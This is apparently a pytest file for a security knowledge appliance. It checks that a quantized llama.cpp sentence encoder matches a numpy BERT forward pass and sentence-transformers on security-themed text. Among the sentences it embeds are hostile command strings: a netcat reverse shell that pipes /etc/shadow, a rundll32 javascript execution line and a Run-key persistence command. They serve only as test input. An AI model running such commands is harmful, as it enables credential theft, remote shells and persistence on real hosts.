"""The quantized encoder in llama.cpp against two referees of the same weights in float32: a plain
forward pass written here in numpy, and sentence-transformers where it is installed."""

import re
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import numpy as np
import pytest
from numpy.typing import NDArray

from appliance.inference.client import EncoderClient
from appliance.inference.gguf_encoder import find_encoder_source
from appliance.inference.manifest import read_pinned
from appliance.knowledge.base import KnowledgeBase
from appliance.knowledge.build import write_base
from appliance.knowledge.entries import Hit, KnowledgeEntry
from appliance.knowledge.gathering import gather_items
from appliance.knowledge.generation import lock_base
from appliance.knowledge.own_entries import read_own
from tests.fixtures_models import SHIPPED, ensure_encoder

#: Q8_0 rounds each weight to 8 bits: the reference is met to this cosine, not to the last digit.
#: In a text of one word no neighbours average the rounding out.
NEAR = 0.999
NEAR_ONE_WORD = 0.998

#: Entries whose cosines differ by less than this may change places.
TIE = 0.006

WORDS = ("x", "mimikatz", "persistence", "")

SENTENCES = (
    "Encoded PowerShell Command. Detects powershell.exe started with -EncodedCommand.",
    "LSASS Memory Access. A process opens lsass.exe with rights to read its memory.",
    "Adversaries may create or modify system processes to repeatedly execute payloads.",
    "Suspicious scheduled task created by schtasks.exe /create in a user's folder.",
    "whoami /all && net user administrator /domain",
    'C:\\Windows\\System32\\rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
    "cat /etc/shadow | nc 203.0.113.7 4444 -e /bin/sh",
    "Clearing of the Windows security event log (event id 1102).",
    "A web server process spawns a shell.",
    "DNS queries with long random labels may be a tunnel.",
    "Volume shadow copies are deleted with vssadmin or wmic.",
    "The quick brown fox jumps over the lazy dog.",
    "Brute force of SSH passwords from one address against many users.",
    "Kerberoasting: many service tickets with RC4 encryption requested by one account.",
    "What did the attacker do on host WS-17 before the lateral movement?",
    "BITSAdmin downloads a file from an IP address.",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d c:\\x.exe",
    "The service account logged on interactively at night.",
    "Modbus function code 5 written by a host that never wrote before; " * 30,
    "AMSI bypass; ETW patching; CLR loaded into notepad.exe.",
)

Weights = dict[str, NDArray[np.float32]]
Encode = Callable[[Sequence[str]], NDArray[np.float32]]


@pytest.fixture(scope="module")
def source() -> Path:
    ensure_encoder()
    return find_encoder_source(read_pinned(SHIPPED, "encoder"))


@pytest.fixture(scope="module")
def vectors() -> Iterator[NDArray[np.float32]]:
    client = EncoderClient(ensure_encoder())
    client.start()
    yield client.embed([*SENTENCES, *WORDS])
    client.close()


def split_words(text: str, vocabulary: dict[str, int]) -> list[int]:
    """WordPiece (longest match first) of ASCII text, as BERT uncased does it; at most 256 ids."""
    ids = []
    for word in re.findall(r"[a-z0-9]+|[^\sa-z0-9]", text.lower()):
        begin = 0
        while begin < len(word):
            mark = "##" if begin else ""
            end = len(word)
            while mark + word[begin:end] not in vocabulary:
                end -= 1
            ids.append(vocabulary[mark + word[begin:end]])
            begin = end
    return [vocabulary["[CLS]"], *ids[:254], vocabulary["[SEP]"]]


def normalise_layer(x: NDArray[np.float32], weights: Weights, name: str) -> NDArray[np.float32]:
    mean = x.mean(-1, keepdims=True)
    spread = np.sqrt(x.var(-1, keepdims=True) + 1e-12)
    scaled = (x - mean) / spread * weights[f"{name}.weight"]
    result: NDArray[np.float32] = scaled + weights[f"{name}.bias"]
    return result


def apply_dense(x: NDArray[np.float32], weights: Weights, name: str) -> NDArray[np.float32]:
    result: NDArray[np.float32] = x @ weights[f"{name}.weight"].T + weights[f"{name}.bias"]
    return result


def apply_gelu(x: NDArray[np.float32]) -> NDArray[np.float32]:
    """x * Phi(x), with Phi by the tanh form of Hendrycks and Gimpel 2016, equation in section 2."""
    inner = np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)
    result: NDArray[np.float32] = (0.5 * x * (1 + np.tanh(inner))).astype(np.float32)
    return result


def attend(x: NDArray[np.float32], weights: Weights, name: str) -> NDArray[np.float32]:
    """Multi-head self-attention (Vaswani et al. 2017, section 3.2) with 12 heads of 32."""
    count = x.shape[0]
    query, key, value = (
        apply_dense(x, weights, f"{name}.self.{part}").reshape(count, 12, 32).transpose(1, 0, 2)
        for part in ("query", "key", "value")
    )
    scores = query @ key.transpose(0, 2, 1) / np.sqrt(32)
    scores = np.exp(scores - scores.max(-1, keepdims=True))
    mixed = (scores / scores.sum(-1, keepdims=True)) @ value
    return apply_dense(
        mixed.transpose(1, 0, 2).reshape(count, 384), weights, f"{name}.output.dense"
    )


def encode_plainly(ids: list[int], weights: Weights) -> NDArray[np.float32]:
    """BERT (Devlin et al. 2019) with 6 layers, then the unit mean over all tokens."""
    x = weights["embeddings.word_embeddings.weight"][ids]
    x = x + weights["embeddings.position_embeddings.weight"][: len(ids)]
    x = x + weights["embeddings.token_type_embeddings.weight"][0]
    x = normalise_layer(x, weights, "embeddings.LayerNorm")
    for layer in range(6):
        name = f"encoder.layer.{layer}"
        attended = x + attend(x, weights, f"{name}.attention")
        x = normalise_layer(attended, weights, f"{name}.attention.output.LayerNorm")
        wide = apply_gelu(apply_dense(x, weights, f"{name}.intermediate.dense"))
        mapped = x + apply_dense(wide, weights, f"{name}.output.dense")
        x = normalise_layer(mapped, weights, f"{name}.output.LayerNorm")
    mean = x.mean(0)
    unit: NDArray[np.float32] = mean / np.linalg.norm(mean)
    return unit


def check_cosines(reference: NDArray[np.float32], vectors: NDArray[np.float32]) -> None:
    cosines = (reference * vectors).sum(axis=1)
    assert len(cosines) == len(SENTENCES) + len(WORDS) == 24
    assert cosines[:20].min() >= NEAR, dict(zip(SENTENCES, cosines.tolist(), strict=False))
    assert cosines[20:].min() >= NEAR_ONE_WORD, dict(zip(WORDS, cosines[20:].tolist(), strict=True))


def test_encoder_agrees_with_a_plain_forward_pass(
    source: Path, vectors: NDArray[np.float32]
) -> None:
    from safetensors.numpy import load_file

    weights: Weights = load_file(source / "model.safetensors")
    words = (source / "vocab.txt").read_text("utf-8").splitlines()
    vocabulary = {word: number for number, word in enumerate(words)}
    texts = [*SENTENCES, *WORDS]
    plain = [encode_plainly(split_words(text, vocabulary), weights) for text in texts]
    check_cosines(np.stack(plain), vectors)


def check_top_ten(other: Encode, folder: Path) -> None:
    """A base of our own playbooks and countermeasures, once by each encoder: both find the same ten
    for each question, but for those that are as near as the last of them."""
    items = [
        item
        for item in read_own()
        if isinstance(item, KnowledgeEntry) and item.type in ("playbook", "mitigation")
    ]
    assert len(items) > 100
    client = EncoderClient(ensure_encoder())
    client.start()
    found: list[list[list[Hit]]] = []
    try:
        for name, encode in (("llama.cpp", client.embed), ("other", other)):
            encoder = Backend(encode)
            with lock_base(folder / name):
                sources = gather_items((("own", item) for item in items), "package")
                write_base(folder / name, list(sources.contributions.values()), encoder, print)
            base = KnowledgeBase.open(folder / name, encoder.model_hash)
            found.append([base.search(row, 12) for row in encode(SENTENCES)])
            base.close()
    finally:
        client.close()
    for question, ours, theirs in zip(SENTENCES, *found, strict=True):
        last = theirs[9].score
        sure = [hit.entry.id for hit in theirs if hit.score > last + TIE]
        near = {hit.entry.id for hit in theirs if hit.score > last - TIE}
        ten = [hit.entry.id for hit in ours[:10]]
        assert set(sure) <= set(ten) <= near, question
        assert ours[0].score == pytest.approx(theirs[0].score, abs=TIE), question


class Backend:
    """An encoder as building a base needs it."""

    model_hash = "cd" * 32
    dims = 384

    def __init__(self, encode: Encode) -> None:
        self.embed = encode


def test_sentence_transformers_finds_the_same_ten(source: Path, tmp_path: Path) -> None:
    library = pytest.importorskip(
        "sentence_transformers", reason="sentence-transformers is not installed (extra 'train')"
    )
    model = library.SentenceTransformer(str(source), device="cpu")
    check_top_ten(lambda texts: model.encode(list(texts), normalize_embeddings=True), tmp_path)


def test_encoder_agrees_with_sentence_transformers(
    source: Path, vectors: NDArray[np.float32]
) -> None:
    library = pytest.importorskip(
        "sentence_transformers", reason="sentence-transformers is not installed (extra 'train')"
    )
    model = library.SentenceTransformer(str(source), device="cpu")
    check_cosines(model.encode([*SENTENCES, *WORDS], normalize_embeddings=True), vectors)
